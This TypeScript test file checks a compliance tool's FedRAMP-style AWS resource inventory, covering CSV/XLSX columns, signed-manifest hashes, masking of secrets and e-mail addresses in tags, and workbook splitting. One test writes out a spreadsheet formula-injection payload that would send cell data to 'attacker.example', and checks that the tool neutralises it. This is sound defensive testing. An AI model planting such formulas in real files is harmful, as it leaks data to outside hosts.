// The system inventory in every pack (issue 23): inventory.csv and inventory.xlsx, one row per resource AWS Config
// recorded, in the columns of FedRAMP's Integrated Inventory Workbook, signed with the rest of the pack.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { cpSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { Resource } from '../src/evidence/types.ts';
import { inventoryHeaders } from '../src/inventory/columns.ts';
import { assetFacts } from '../src/inventory/facts.ts';
import { StreamedWorkbook } from '../src/inventory/xlsx.ts';
import { fakeAwsEnv, startFakeAws, type FakeAggregator, type FakeAws } from './fake-aws.ts';
import { onlyPack, runCliInProcess, sampleDir, tempDir } from './helpers.ts';
import { sampleRunPack } from './shared-sample.ts';

/** The configuration items of the sample's snapshot files, read here on their own: what the inventory must list. */
function sampleConfigurationItems(): { arn: string; account: string; type: string; tags: Record<string, string> }[] {
  const dir = join(sampleDir, 'config-snapshots');
  return (readdirSync(dir, { recursive: true }) as string[])
    .filter((f) => f.endsWith('.json'))
    .flatMap((f) => (JSON.parse(readFileSync(join(dir, f), 'utf8')).configurationItems as any[]).map((ci) => ({ arn: ci.ARN, account: ci.awsAccountId, type: ci.resourceType, tags: ci.tags ?? {} })));
}

/** A workbook's sheet as rows of cell text (the header row first). */
function sheetRows(sheet: ExcelJS.Worksheet): string[][] {
  const rows: string[][] = [];
  sheet.eachRow({ includeEmpty: true }, (row) => {
    rows.push(
      Array.from({ length: sheet.columnCount }, (_, i) => {
        const v = row.getCell(i + 1).value;
        return v === null || v === undefined ? '' : String(v);
      }),
    );
  });
  return rows;
}

async function readWorkbook(file: string): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(file);
  return wb;
}

const readCsv = (file: string): string[][] => parse(readFileSync(file), { bom: true, relax_column_count: false });

describe('the system inventory of a sample pack', () => {
  let pack: string;
  let csv: string[][];
  let workbook: ExcelJS.Workbook;
  const items = sampleConfigurationItems();

  before(async () => {
    pack = await sampleRunPack({ pdf: false });
    csv = readCsv(join(pack, 'inventory.csv'));
    workbook = await readWorkbook(join(pack, 'inventory.xlsx'));
  });

  it('lists inventory.csv and inventory.xlsx in the signed manifest, with their hashes', () => {
    const manifest = JSON.parse(readFileSync(join(pack, 'manifest.json'), 'utf8'));
    for (const [path, mediaType] of [
      ['inventory.csv', 'text/csv; charset=utf-8'],
      ['inventory.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
    ] as const) {
      const entry = manifest.files.find((f: { path: string }) => f.path === path);
      assert.ok(entry, `${path} is in the manifest`);
      assert.equal(
        entry.sha256,
        createHash('sha256')
          .update(readFileSync(join(pack, path)))
          .digest('hex'),
      );
      assert.equal(entry.mediaType, mediaType);
    }
  });

  it("the workbook's header row is the template's column list, in its order; the CSV's too", () => {
    const sheet = workbook.getWorksheet('Inventory')!;
    assert.ok(sheet, 'an Inventory sheet');
    assert.deepEqual(sheetRows(sheet)[0], inventoryHeaders);
    assert.equal(inventoryHeaders.length, 25);
    assert.deepEqual(
      [inventoryHeaders[0], inventoryHeaders[1], inventoryHeaders[8], inventoryHeaders[23], inventoryHeaders[24]],
      ['UNIQUE ASSET IDENTIFIER', 'IPv4 or IPv6 Address', 'Baseline Configuration Name', 'Function', 'End-of-Life'],
    );
    assert.deepEqual(csv[0], inventoryHeaders);
  });

  it('has one row per configuration item of the evidence, in both files, the same rows', () => {
    const rows = sheetRows(workbook.getWorksheet('Inventory')!).slice(1);
    assert.equal(rows.length, items.length);
    assert.equal(csv.length - 1, items.length);
    assert.deepEqual(rows.map((r) => r[0]).sort(), items.map((i) => i.arn).sort());
    assert.deepEqual(csv.slice(1), rows);
    const result = JSON.parse(readFileSync(join(pack, 'result.json'), 'utf8'));
    assert.deepEqual([...new Set(rows.map((r) => r[10]!.split('/')[0]))].sort(), result.evidence.scope.accounts, 'every account of the scope has rows');
    console.log(`# sample: ${rows.length} inventory rows (${new Set(rows.map((r) => r[11])).size} types, ${new Set(rows.map((r) => r[10]!.split('/')[0])).size} accounts)`);
  });

  it("fills a known WorkSpace's row from its configuration item: ARN, type, location, image, owner tag", () => {
    const row = sheetRows(workbook.getWorksheet('Inventory')!).find((r) => r[0] === 'arn:aws:workspaces:us-east-1:111111111111:workspace/ws-f2k9x7m1q');
    assert.ok(row);
    const cell = (h: string) => row[inventoryHeaders.indexOf(h)];
    assert.equal(cell('Asset Type'), 'AWS::WorkSpaces::Workspace');
    assert.equal(cell('Location'), '111111111111/us-east-1');
    assert.equal(cell('Virtual'), 'Yes');
    assert.equal(cell('Baseline Configuration Name'), 'WorkSpaces bundle wsb-8vbljg4r6');
    assert.equal(cell('Hardware Make/Model'), 'WorkSpaces compute type STANDARD');
    assert.equal(cell('Serial #/Asset Tag#'), 'ws-f2k9x7m1q');
    // Its Owner tag is an e-mail address: personal data, masked as everywhere else in the pack.
    assert.match(cell('System Administrator/ Owner')!, /^\[REDACTED email #[0-9a-f]{8}\]$/);
  });

  it('masks a secret and personal data held in tag values, in both files', async () => {
    const secrets = items.flatMap((i) => Object.values(i.tags)).filter((v) => /pw=|@/.test(v));
    assert.deepEqual(secrets.sort(), ['jane.doe@example.com', 'temp desk pw=Autumn#2026'], 'the sample holds them');
    const xlsxText = sheetRows(workbook.getWorksheet('Inventory')!).flat().join('\n');
    const csvText = readFileSync(join(pack, 'inventory.csv'), 'utf8');
    for (const text of [xlsxText, csvText]) {
      assert.ok(!text.includes('Autumn#2026') && !text.includes('jane.doe'), 'no secret or e-mail address in the clear');
      assert.match(text, /Name tag: temp desk pw=\[REDACTED secret-assignment #[0-9a-f]{8}\]/);
    }
  });

  it('has a legend sheet naming, for every column, where its value comes from or why it is blank', () => {
    const legend = sheetRows(workbook.getWorksheet('Legend')!);
    assert.deepEqual(
      legend.slice(1, 1 + inventoryHeaders.length).map((r) => r[0]),
      inventoryHeaders,
    );
    assert.ok(legend.slice(1, 1 + inventoryHeaders.length).every((r) => r[1]!.length > 10));
    assert.ok(legend.some((r) => r[0] === 'Template' && /Integrated Inventory Workbook/.test(r[1]!)));
  });

  it('summarises the inventory by type and account in the report, naming the files', () => {
    const html = readFileSync(join(pack, 'report.html'), 'utf8');
    const section = html.slice(html.indexOf('<section id="inventory">'), html.indexOf('</section>', html.indexOf('<section id="inventory">')));
    assert.ok(section.length > 0, 'an inventory section');
    assert.match(section, new RegExp(`${items.length} resource\\(s\\) of \\d+ type\\(s\\) in 2 account\\(s\\)`));
    assert.match(section, /<td class="mono">AWS::S3::Bucket<\/td><td>5<\/td>/);
    assert.match(section, /<td class="mono">111111111111<\/td><td>17<\/td>/);
    assert.match(section, /inventory\.csv.*inventory\.xlsx/s);
  });
});

describe('hostile tag values in the inventory', () => {
  it('a tag value a spreadsheet would run as a formula is neutralised in inventory.csv, kept as text in the workbook', async (t) => {
    const work = tempDir(t);
    const evidence = join(work, 'evidence');
    cpSync(sampleDir, evidence, { recursive: true });
    const dir = join(evidence, 'config-snapshots');
    const file = (readdirSync(dir, { recursive: true }) as string[]).find((f) => f.includes('111111111111_Config_us-east-1'))!;
    const snapshot = JSON.parse(readFileSync(join(dir, file), 'utf8'));
    const ws = snapshot.configurationItems.find((ci: { resourceId: string }) => ci.resourceId === 'ws-b8n3p5r2t');
    ws.tags = { ...ws.tags, Function: '=HYPERLINK("http://attacker.example/?x="&A1,"click")', Owner: '@SUM(1+1)' };
    writeFileSync(join(dir, file), JSON.stringify(snapshot));
    const r = await runCliInProcess(['run', '--evidence', evidence, '--out', join(work, 'out'), '--no-pdf'], {});
    assert.equal(r.code, 0, r.stderr);
    const pack = onlyPack(join(work, 'out'));
    const row = readCsv(join(pack, 'inventory.csv')).find((c) => c[0]!.endsWith('workspace/ws-b8n3p5r2t'))!;
    assert.equal(row[inventoryHeaders.indexOf('Function')], `'=HYPERLINK("http://attacker.example/?x="&A1,"click")`);
    assert.equal(row[inventoryHeaders.indexOf('System Administrator/ Owner')], "'@SUM(1+1)");
    const cells = readFileSync(join(pack, 'inventory.csv'), 'utf8')
      .split('\r\n')
      .flatMap((l) => l.split(','));
    assert.ok(
      cells.every((c) => !/^"?[=+@]/.test(c)),
      'no formula cell in inventory.csv',
    );
    const sheet = (await readWorkbook(join(pack, 'inventory.xlsx'))).getWorksheet('Inventory')!;
    const xrow = sheetRows(sheet).find((c) => c[0]!.endsWith('workspace/ws-b8n3p5r2t'))!;
    assert.equal(xrow[inventoryHeaders.indexOf('Function')], '=HYPERLINK("http://attacker.example/?x="&A1,"click")', 'a text cell, as written');
    let formulas = 0;
    sheet.eachRow((r) =>
      r.eachCell((c) => {
        if (c.type === ExcelJS.ValueType.Formula) formulas++;
      }),
    );
    assert.equal(formulas, 0, 'no formula cell in the workbook');
  });
});

describe('a workbook past the sheet row limit', () => {
  it('goes on in a further sheet, the header row first in each; the same rows and time give the same bytes', async (t) => {
    const dir = tempDir(t);
    const write = async (name: string) => {
      const wb = new StreamedWorkbook(join(dir, name), { name: 'Inventory', header: ['A', 'B'], widths: [10, 10] }, { creator: 'test', title: 'test', time: new Date('2026-11-01T00:00:00Z') }, 2);
      for (let i = 1; i <= 5; i++) wb.addRow([`a${i}`, i % 2 ? '' : `b${i}`]);
      await wb.finish([{ name: 'Legend', rows: [['Column', 'Source']], widths: [10, 10] }], new Date('2026-11-01T00:00:00Z'));
    };
    await write('one.xlsx');
    const wb = await readWorkbook(join(dir, 'one.xlsx'));
    assert.deepEqual(
      wb.worksheets.map((s) => s.name),
      ['Inventory', 'Inventory (2)', 'Inventory (3)', 'Legend'],
    );
    assert.deepEqual(
      wb.worksheets.slice(0, 3).map((s) => sheetRows(s)),
      [
        [
          ['A', 'B'],
          ['a1', ''],
          ['a2', 'b2'],
        ],
        [
          ['A', 'B'],
          ['a3', ''],
          ['a4', 'b4'],
        ],
        [
          ['A', 'B'],
          ['a5', ''],
        ],
      ],
    );
    await new Promise((resolve) => setTimeout(resolve, 2100)); // past the 2 s resolution of a zip entry's time
    await write('two.xlsx');
    assert.ok(readFileSync(join(dir, 'one.xlsx')).equals(readFileSync(join(dir, 'two.xlsx'))), 'the same bytes');
  });
});

describe('inventory facts from configuration items', () => {
  const resource = (type: string, configuration: Record<string, unknown>, tags: Record<string, string> = {}, zone?: string): Resource => ({
    key: `111111111111/us-east-1/${type}/x`,
    account: '111111111111',
    region: 'us-east-1',
    type,
    id: 'x',
    tags,
    configuration,
    supplementary: {},
    capturedAt: '2026-10-31T00:00:00.000Z',
    status: 'OK',
    origin: { file: 'f', pointer: '', api: 'AWS Config snapshot' },
    ...(zone ? { zone } : {}),
  });

  it("reads a WorkSpace's address, computer name and operating system where recorded", () => {
    assert.deepEqual(
      assetFacts(
        resource(
          'AWS::WorkSpaces::Workspace',
          {
            IpAddress: '10.0.1.17',
            ComputerName: 'WSAMZN-ABC123',
            BundleId: 'wsb-1',
            SubnetId: 'subnet-1',
            WorkspaceProperties: { OperatingSystemName: 'WINDOWS_SERVER_2022', ComputeTypeName: 'POWER' },
          },
          { Owner: 'IT desk', Function: 'analyst desktop' },
          'use1-az4',
        ),
      ),
      {
        ips: ['10.0.1.17'],
        netbios: 'WSAMZN-ABC123',
        os: 'WINDOWS_SERVER_2022',
        baseline: 'WorkSpaces bundle wsb-1',
        hardware: 'WorkSpaces compute type POWER',
        network: 'subnet-1',
        zone: 'use1-az4',
        owner: 'IT desk',
        function: 'analyst desktop',
      },
    );
  });

  it("reads an EC2 instance's addresses, DNS names, public address, zone, AMI and type", () => {
    const f = assetFacts(
      resource('AWS::EC2::Instance', {
        privateIpAddress: '10.0.0.5',
        publicIpAddress: '203.0.113.9',
        privateDnsName: 'ip-10-0-0-5.ec2.internal',
        publicDnsName: 'ec2-203-0-113-9.compute-1.amazonaws.com',
        placement: { availabilityZone: 'us-east-1b' },
        imageId: 'ami-1',
        instanceType: 't3.micro',
        platformDetails: 'Linux/UNIX',
        vpcId: 'vpc-1',
        subnetId: 'subnet-2',
        networkInterfaces: [{ ipv6Addresses: [{ ipv6Address: '2001:db8::5' }] }],
      }),
    )!;
    assert.deepEqual(f.ips, ['10.0.0.5', '203.0.113.9', '2001:db8::5']);
    assert.deepEqual(f.dns, ['ip-10-0-0-5.ec2.internal', 'ec2-203-0-113-9.compute-1.amazonaws.com']);
    assert.equal(f.public, true);
    assert.equal(f.zone, 'us-east-1b');
    assert.equal(f.baseline, 'AMI ami-1');
    assert.equal(f.network, 'vpc-1 subnet-2');
  });

  it('records nothing for a resource whose configuration and tags say none of it', () => {
    assert.equal(assetFacts(resource('AWS::KMS::Key', { keyId: 'k' })), undefined);
  });
});

describe('the inventory of an organization read through an aggregator (fake endpoint, real SDK)', () => {
  const hub = '999999999999';
  const accounts = ['111111111111', '222222222222', '333333333333'];
  const ci = (account: string, region: string, i: number) => ({
    resourceId: `ws-${account.slice(0, 3)}${region.slice(0, 2)}${i}`,
    resourceName: `ws-${i}`,
    resourceType: 'AWS::WorkSpaces::Workspace',
    accountId: account,
    awsRegion: region,
    arn: `arn:aws:workspaces:${region}:${account}:workspace/ws-${account.slice(0, 3)}${region.slice(0, 2)}${i}`,
    availabilityZone: 'Regional',
    configuration: { Id: `ws-${i}`, BundleId: 'wsb-org', RootVolumeEncryptionEnabled: true, UserVolumeEncryptionEnabled: true },
    supplementaryConfiguration: {},
    tags: [{ key: 'Owner', value: `team-${account.slice(0, 1)}` }],
    relationships: [],
    configurationItemCaptureTime: '2026-11-18T10:00:00.000Z',
    configurationItemStatus: 'OK',
    configurationStateId: '1',
  });
  const resources = accounts.flatMap((a, k) => ['us-east-1', 'eu-west-1'].flatMap((r) => Array.from({ length: 3 + k }, (_, i) => ci(a, r, i))));
  const aggregator: FakeAggregator = {
    sources: accounts.flatMap((a) => ['us-east-1', 'eu-west-1'].map((r) => ({ SourceId: a, SourceType: 'ACCOUNT' as const, AwsRegion: r, LastUpdateStatus: 'SUCCEEDED' as const }))),
    resources,
    rules: [],
    evaluations: {},
  };
  let aws: FakeAws;
  after(() => aws?.close());

  it('has rows for every account, each with its own owner tag', async (t) => {
    const work = tempDir(t);
    aws = await startFakeAws({ account: hub, regions: { 'us-east-1': {} }, aggregators: { 'org-all': aggregator } });
    const c = await runCliInProcess(['collect', '--aggregator', 'org-all', '--region', 'us-east-1', '--organization', 'Org', '--out', join(work, 'evidence'), '--json'], fakeAwsEnv(aws.url));
    assert.ok(c.code === 0 || c.code === 5, c.stderr);
    const r = await runCliInProcess(['run', '--evidence', join(work, 'evidence'), '--out', join(work, 'out'), '--no-pdf'], { SOURCE_DATE_EPOCH: '1795000000' });
    assert.equal(r.code, 0, r.stderr);
    const pack = onlyPack(join(work, 'out'));
    const rows = sheetRows((await readWorkbook(join(pack, 'inventory.xlsx'))).getWorksheet('Inventory')!).slice(1);
    assert.equal(rows.length, resources.length);
    const col = (h: string) => inventoryHeaders.indexOf(h);
    for (const [k, account] of accounts.entries()) {
      const mine = rows.filter((row) => row[col('Location')]!.startsWith(`${account}/`));
      assert.equal(mine.length, 2 * (3 + k), `rows of ${account}`);
      assert.ok(mine.every((row) => row[col('System Administrator/ Owner')] === `team-${account.slice(0, 1)}` && row[col('Baseline Configuration Name')] === 'WorkSpaces bundle wsb-org'));
    }
    assert.deepEqual(readCsv(join(pack, 'inventory.csv')).slice(1), rows);
  });
});
